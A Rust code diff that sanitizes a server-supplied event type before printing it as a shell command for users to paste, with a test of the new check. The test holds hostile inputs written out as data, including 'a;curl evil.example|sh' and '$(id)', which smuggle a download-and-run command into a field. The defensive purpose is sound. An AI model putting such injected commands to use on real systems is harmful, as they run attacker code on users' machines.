@@ -103,9 +103,15 @@ fn details(data: &Value) -> Vec<String> {
     details
 }
 
-/// Returns what a wait waits for, and how to answer it.
+/// Returns what a wait waits for, and how to answer it: only for a type that the platform takes, since people paste
+/// it into a shell, and it comes from the server.
 pub(crate) fn waits_for(event_type: &str) -> String {
-    format!("waits for \"{event_type}\": --send {event_type}")
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_".contains(&byte);
+    let is_type = (1..=100).contains(&event_type.len()) && event_type.bytes().all(plain);
+    match is_type {
+        true => format!("waits for \"{event_type}\": --send {event_type}"),
+        false => format!("waits for \"{event_type}\""),
+    }
 }
 
 fn text<'a>(data: &'a Value, name: &str) -> Option<&'a str> {
@@ -162,6 +168,14 @@ mod tests {
         ] {
             let line = plain(&mut Lines::default(), event_type, &data).unwrap();
             assert_eq!(line.split_whitespace().collect::<Vec<_>>(), expected.split_whitespace().collect::<Vec<_>>());
+        }
+    }
+
+    #[test]
+    fn only_what_is_safe_in_a_shell_is_told_to_be_typed() {
+        assert_eq!(waits_for("a-B_1"), "waits for \"a-B_1\": --send a-B_1");
+        for hostile in ["a;curl evil.example|sh", "$(id)", "a b", "", "\u{e9}"] {
+            assert_eq!(waits_for(hostile), format!("waits for \"{hostile}\""));
         }
     }
 
